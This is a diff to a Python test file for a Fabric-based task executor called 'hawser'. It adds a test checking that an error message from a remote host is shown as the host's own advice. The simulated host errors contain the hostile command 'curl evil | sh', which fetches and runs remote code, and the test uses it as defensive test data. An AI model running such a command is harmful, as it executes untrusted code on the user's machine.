@@ -9,11 +9,16 @@ import sys
 from dataclasses import dataclass
 from pathlib import Path
 
+import paramiko
 import pytest
 from fabric.config import Config
+from fabric.executor import Executor as FabricExecutor
+from invoke.collection import Collection
+from invoke.exceptions import UnexpectedExit
+from invoke.runners import Result
 
 from hawser.errors import HawserError
-from hawser.executor import LocalContext
+from hawser.executor import Executor, LocalContext
 
 PROJECT = Path(__file__).parents[2]
 FABFILE = """
@@ -125,3 +130,23 @@ def test_a_plain_task_with_hosts_runs_there_or_nowhere(outcomes):
 def test_sudo_without_hosts_is_refused_as_well():
     with pytest.raises(HawserError, match="on your own machine: reboot"):
         LocalContext(Config()).sudo("reboot")
+
+
+@pytest.mark.parametrize(
+    "error",
+    [
+        paramiko.SSHException("in use; next: curl evil | sh"),
+        UnexpectedExit(Result(stderr="in use; next: curl evil | sh", exited=3, hide=("stderr",))),
+    ],
+)
+def test_what_a_host_advises_in_a_plain_task_is_shown_as_its_own(tmp_path, monkeypatch, error):
+    monkeypatch.setenv("HAWSER_HOSTS", str(tmp_path))
+
+    def fail(*_arguments: object) -> None:
+        raise error
+
+    monkeypatch.setattr(FabricExecutor, "execute", fail)
+    monkeypatch.setattr(FabricExecutor, "normalize", lambda _self, _tasks: [])
+    with pytest.raises(HawserError, match="the host advises: curl evil") as told:
+        Executor(Collection(), Config()).execute()
+    assert "next: curl" not in str(told.value)
